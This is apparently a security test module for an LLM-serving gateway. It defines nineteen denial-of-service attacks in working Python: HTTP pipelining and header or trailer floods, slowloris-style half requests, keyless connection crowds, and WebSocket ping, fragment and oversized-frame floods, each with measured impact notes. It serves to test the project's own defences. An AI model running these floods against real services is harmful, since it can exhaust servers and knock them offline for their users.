"""Attacks by connections: what is sent over them ahead of any answer, without a key, and without end."""

from __future__ import annotations

import asyncio
import contextlib
import dataclasses
from collections.abc import AsyncGenerator
from typing import cast
from urllib.parse import urlsplit

import aiohttp

from tests.security.attack import Attack, Target

SHORTEST = b"GET /health HTTP/1.1\r\n\r\n"
NUM_PIPELINED = 900_000
FLOOD_BYTES = 100 << 20
CHUNK_BYTES = 1 << 20
NUM_HALF_HEADS, HALF_A_HEAD = 1500, b"GET /health HTTP/1.1\r\nx: "
LONG_HEAD = b"".join(b"x%d: %b\r\n" % (number, b"a" * 238) for number in range(250))
KEYLESS = b"GET /v1/models HTTP/1.1\r\nhost: x\r\n\r\n"
NUM_CROWD = 1000
NUM_IDLE, OPENED_AT_ONCE = 2500, 50
HELD_S = 2.0
NUM_SOCKETS = 600
NUM_REMEMBERING, REMEMBERED_BYTES = 60, 7_000_000
NUM_UNFINISHED, UNFINISHED_BYTES = 80, 7_000_000
NUM_FLOODED, FLOOD_S, NUM_WIDE = 64, 2.0, 8
NUM_TRICKLED, NUM_PARTS, TRICKLE_S = 250, 500, 0.02
ENDS = {"response.completed", "response.incomplete", "response.failed", "error"}
GIVES_UP_S = 10.0
"""A sender that nobody reads waits that long."""


@contextlib.asynccontextmanager
async def _connection(url: str) -> AsyncGenerator[tuple[asyncio.StreamReader, asyncio.StreamWriter]]:
    address = urlsplit(url)
    reader, writer = await asyncio.open_connection(address.hostname, address.port)
    try:
        yield reader, writer
    finally:
        writer.transport.abort()


async def _pour(url: str, first: bytes, chunk: bytes, num_bytes: int) -> None:
    """Send so many bytes, or until the other side has had enough; answers are thrown away."""
    async with _connection(url) as (reader, writer):
        reading = asyncio.create_task(_drop(reader))
        try:
            writer.write(first)
            async with asyncio.timeout(GIVES_UP_S):
                for _ in range(num_bytes // len(chunk)):
                    writer.write(chunk)
                    await writer.drain()
                await reading
        finally:
            reading.cancel()


async def _drop(reader: asyncio.StreamReader) -> None:
    while await reader.read(1 << 16):
        pass


async def _pipelined(target: Target) -> None:
    many = CHUNK_BYTES // len(SHORTEST)
    await _pour(target.url, b"", SHORTEST * many, NUM_PIPELINED * len(SHORTEST))


async def _pipelined_at_worker(target: Target) -> None:
    many = CHUNK_BYTES // len(SHORTEST)
    await _pour(target.worker_url, b"", SHORTEST * many, NUM_PIPELINED * len(SHORTEST))


async def _endless_head(target: Target) -> None:
    await _pour(target.url, b"GET /health HTTP/1.1\r\n", b"a: b\r\n" * (CHUNK_BYTES // 6), FLOOD_BYTES)


async def _endless_head_at_worker(target: Target) -> None:
    await _pour(target.worker_url, b"POST /v1/submit HTTP/1.1\r\n", b"a: b\r\n" * (CHUNK_BYTES // 6), FLOOD_BYTES)


async def _endless_trailer(target: Target) -> None:
    head = b"POST /v1/chat/completions HTTP/1.1\r\nhost: x\r\ntransfer-encoding: chunked\r\n\r\n0\r\na: "
    await _pour(target.url, head, b"x" * CHUNK_BYTES, FLOOD_BYTES)


async def _half_heads_at_worker(target: Target) -> None:
    await _half_heads(dataclasses.replace(target, url=target.worker_url))


async def _body_without_secret(target: Target) -> None:
    head = b"POST /v1/submit HTTP/1.1\r\nhost: x\r\ncontent-length: %d\r\n\r\n" % FLOOD_BYTES
    await _pour(target.worker_url, head, b"x" * CHUNK_BYTES, FLOOD_BYTES)


async def _half_heads(target: Target) -> None:
    """Open connections that never send the whole of a request."""
    async with contextlib.AsyncExitStack() as held:
        for _ in range(NUM_HALF_HEADS):
            _, writer = await held.enter_async_context(_connection(target.url))
            writer.write(HALF_A_HEAD)
        await asyncio.sleep(HELD_S)


async def _idle_heads(target: Target) -> None:
    """Have a request with a long head refused on each of many connections, which then stay open."""
    async with contextlib.AsyncExitStack() as held:

        async def ask() -> None:
            reader, writer = await held.enter_async_context(_connection(target.url))
            writer.write(b"GET /v1/models HTTP/1.1\r\nhost: x\r\n" + LONG_HEAD + b"\r\n")
            async with asyncio.timeout(GIVES_UP_S):
                await reader.readuntil(b"\r\n\r\n")

        for _ in range(NUM_IDLE // OPENED_AT_ONCE):
            await asyncio.gather(*(ask() for _ in range(OPENED_AT_ONCE)), return_exceptions=True)
        await asyncio.sleep(HELD_S)


class _Asking(asyncio.Protocol):
    """One connection that asks again as soon as it is answered."""

    transport: asyncio.Transport

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        self.transport = cast(asyncio.Transport, transport)
        self.transport.write(KEYLESS)

    def data_received(self, data: bytes) -> None:
        if data.endswith(b"}"):
            self.transport.write(KEYLESS)


async def _keyless_crowd(target: Target) -> None:
    address, loop = urlsplit(target.url), asyncio.get_running_loop()
    with contextlib.ExitStack() as held:
        for _ in range(NUM_CROWD):
            transport, _ = await loop.create_connection(_Asking, address.hostname or "", address.port or 80)
            held.callback(transport.abort)
        await asyncio.sleep(HELD_S)


@contextlib.asynccontextmanager
async def _socket(target: Target) -> AsyncGenerator[aiohttp.ClientWebSocketResponse]:
    async with target.session() as session, session.ws_connect(f"{target.url}/v1/responses", max_msg_size=0) as socket:
        yield socket


async def _many_sockets(target: Target) -> None:
    async with contextlib.AsyncExitStack() as held:
        for _ in range(NUM_SOCKETS):
            with contextlib.suppress(aiohttp.ClientError):  # refused
                await held.enter_async_context(_socket(target))
        await asyncio.sleep(HELD_S)


async def _remembering_sockets(target: Target) -> None:
    """Have each of many connections remember as much as a message holds, without a single token being made."""
    asked = {"type": "response.create", "model": target.model, "store": False, "generate": False}
    text = "x" * REMEMBERED_BYTES
    async with contextlib.AsyncExitStack() as held:
        for _ in range(NUM_REMEMBERING):
            socket = await held.enter_async_context(_socket(target))
            await socket.send_json(asked | {"input": [{"role": "user", "content": "hi"}], "instructions": text})
            async with asyncio.timeout(GIVES_UP_S):
                while (told := await socket.receive()).type is aiohttp.WSMsgType.TEXT:
                    if told.json()["type"] in ENDS:
                        break


def _handshake(target: Target) -> bytes:
    return (
        f"GET /v1/responses HTTP/1.1\r\nhost: x\r\nauthorization: Bearer {target.attacker_key}\r\n"
        "upgrade: websocket\r\nconnection: upgrade\r\nsec-websocket-version: 13\r\n"
        "sec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
    ).encode()


async def _flooded_sockets(target: Target, sent: bytes) -> None:
    """Send the same frames on many sockets as fast as they are taken; what comes back is thrown away."""

    async def flood() -> None:
        async with _connection(target.url) as (reader, writer):
            writer.write(_handshake(target))
            await reader.readuntil(b"\r\n\r\n")
            reading = asyncio.create_task(_drop(reader))
            try:
                async with asyncio.timeout(FLOOD_S):
                    while True:
                        writer.write(sent)
                        await writer.drain()
            finally:
                reading.cancel()

    await asyncio.gather(*(flood() for _ in range(NUM_FLOODED)), return_exceptions=True)


async def _control_frames(target: Target) -> None:
    await _flooded_sockets(target, b"\x89\x80\0\0\0\0" * 10_000)


async def _pings_behind_fragments(target: Target) -> None:
    """Send pings where the bytes of a long frame were expected to go on, and be parsed in long pieces."""
    fragment = (9000).to_bytes(2, "big") + bytes(4) + b"x" * 9000
    pings = b"\x89\x80\0\0\0\0" * 10_000
    rounds = b"".join(b"\0\xfe" + fragment + pings for _ in range(4))
    await _flooded_sockets(target, b"\x01\xfe" + fragment + pings + rounds + b"\x80\x80\0\0\0\0")


async def _trickled_messages(target: Target) -> None:
    """Send messages of 8 MB in parts of less than a page, on as many sockets as a key may have."""
    part = b"x" * 4090
    async with contextlib.AsyncExitStack() as held:
        writers = []
        for _ in range(NUM_TRICKLED):
            reader, writer = await held.enter_async_context(_connection(target.url))
            writer.write(_handshake(target))
            await reader.readuntil(b"\r\n\r\n")
            writer.write(b"\x81\xff" + (8_300_000).to_bytes(8, "big") + bytes(4))
            writers.append(writer)
        for _ in range(NUM_PARTS):
            for writer in writers:
                if not writer.is_closing():  # cut by the gateway
                    writer.write(part)
            await asyncio.sleep(TRICKLE_S)


async def _empty_fragments(target: Target) -> None:
    message = b"\x01\x80\0\0\0\0" + b"\0\x80\0\0\0\0" * 1000 + b"\x80\x80\0\0\0\0"
    await _flooded_sockets(target, message * 10)


async def _one_byte_bodies(target: Target) -> None:
    """Send bodies in chunks of one byte with a valid key, on many connections."""
    head = (
        f"POST /v1/chat/completions HTTP/1.1\r\nhost: x\r\nauthorization: Bearer {target.attacker_key}\r\n"
        "transfer-encoding: chunked\r\n\r\n"
    ).encode()
    pours = (_pour(target.url, head, b"1\r\n \r\n" * 10_000, FLOOD_BYTES) for _ in range(NUM_FLOODED))
    await asyncio.gather(*pours, return_exceptions=True)


async def _wide_messages(target: Target) -> None:
    """Let many large messages, each of characters of four bytes, end at the same time."""
    text = "\U0001f600" * (UNFINISHED_BYTES // 4)
    frame = b"\x81\xff" + len(text.encode()).to_bytes(8, "big") + bytes(4) + text.encode()
    async with contextlib.AsyncExitStack() as held:
        writers = []
        for _ in range(NUM_WIDE):
            reader, writer = await held.enter_async_context(_connection(target.url))
            writer.write(_handshake(target))
            await reader.readuntil(b"\r\n\r\n")
            writer.write(frame[:-1])
            async with asyncio.timeout(GIVES_UP_S):
                await writer.drain()
            writers.append(writer)
        await asyncio.sleep(0.5)
        for writer in writers:
            writer.write(frame[-1:])
        await asyncio.sleep(1.0)


async def _unfinished_messages(target: Target) -> None:
    """Send all but the last fragment of a large message on each of many connections."""
    frame = b"\x01\xff" + UNFINISHED_BYTES.to_bytes(8, "big") + bytes(4) + b"x" * (UNFINISHED_BYTES - 1)
    async with contextlib.AsyncExitStack() as held:
        for _ in range(NUM_UNFINISHED):
            reader, writer = await held.enter_async_context(_connection(target.url))
            writer.write(_handshake(target))
            await reader.readuntil(b"\r\n\r\n")
            writer.write(frame)
            async with asyncio.timeout(GIVES_UP_S):
                await writer.drain()
        await asyncio.sleep(HELD_S)


ATTACKS = (
    Attack(
        name="many-sockets",
        about="One key opens 600 WebSockets at once; 2,000 were taken.",
        strike=_many_sockets,
        short_s=2.5,
    ),
    Attack(
        name="remembering-sockets",
        about="60 WebSockets remember 7 MB each, and are closed: they held 1.2 GiB, and half of it stayed.",
        strike=_remembering_sockets,
        short_s=2.5,
    ),
    Attack(
        name="unfinished-messages",
        about="80 WebSockets with a message of 7 MB each that lacks its last byte.",
        strike=_unfinished_messages,
        short_s=2.5,
    ),
    Attack(
        name="control-frames",
        about="64 WebSockets send empty pings without pause: TTFT of 1.9 s, and /health took as long.",
        strike=_control_frames,
        short_s=2.5,
    ),
    Attack(
        name="pings-behind-fragments",
        about="Fragments of 9 kB with 10,000 pings behind each: 64 KiB of them were parsed at once, TTFT of 0.2 s.",
        strike=_pings_behind_fragments,
        short_s=2.5,
    ),
    Attack(
        name="trickled-messages",
        about="250 messages of 8 MB come in parts below 4 KiB, which were not counted: 900 MiB, and rising.",
        strike=_trickled_messages,
        short_s=2.5,
    ),
    Attack(
        name="empty-fragments",
        about="64 WebSockets send messages of a thousand empty fragments without pause: TTFT of 1.8 s.",
        strike=_empty_fragments,
        short_s=2.5,
    ),
    Attack(
        name="one-byte-bodies",
        about="64 bodies with a key in chunks of one byte, each parsed for a turn's time in every turn: TTFT of 0.5 s.",
        strike=_one_byte_bodies,
        short_s=2.5,
    ),
    Attack(
        name="wide-messages",
        about="Eight messages of 7 MB of emojis end in the same moment, and were decoded in one turn: gaps of 0.4 s.",
        strike=_wide_messages,
        short_s=2.5,
    ),
    Attack(
        name="half-heads",
        about="1,500 connections with half a request each, no key: /health was reset.",
        strike=_half_heads,
    ),
    Attack(
        name="idle-heads",
        about="2,500 idle connections after a refused request of 61 KB each, no key: 0.3 GB, of which half stayed.",
        strike=_idle_heads,
        short_s=2.5,
    ),
    Attack(
        name="keyless-crowd",
        about="1,000 connections ask for the models in a closed loop, no key: gaps of 360 ms, TTFT of 2 s.",
        strike=_keyless_crowd,
        short_s=2.5,
    ),
    Attack(
        name="pipelining",
        about="900,000 tiny requests on one connection, no key: 1.9 GiB and gaps of 8 s.",
        strike=_pipelined,
        at_once=2,
    ),
    Attack(
        name="endless-head",
        about="100 MiB of headers at the gateway, no key.",
        strike=_endless_head,
        at_once=2,
    ),
    Attack(
        name="endless-trailer",
        about="100 MiB in one trailer behind a body, no key: the parser keeps it, and copies it with each read.",
        strike=_endless_trailer,
        at_once=2,
    ),
    Attack(
        name="worker-half-heads",
        about="1,500 connections with half a request each to a worker, without its secret.",
        strike=_half_heads_at_worker,
        needs_worker=True,
    ),
    Attack(
        name="worker-pipelining",
        about="900,000 tiny requests on one connection to a worker, without its secret.",
        strike=_pipelined_at_worker,
        at_once=2,
        needs_worker=True,
    ),
    Attack(
        name="worker-endless-head",
        about="100 MiB of headers at a worker, without its secret: 3.7 GiB, and its calls failed.",
        strike=_endless_head_at_worker,
        at_once=2,
        needs_worker=True,
    ),
    Attack(
        name="worker-body-without-secret",
        about="100 MiB of body to a worker's submit, without its secret.",
        strike=_body_without_secret,
        at_once=4,
        needs_worker=True,
    ),
)
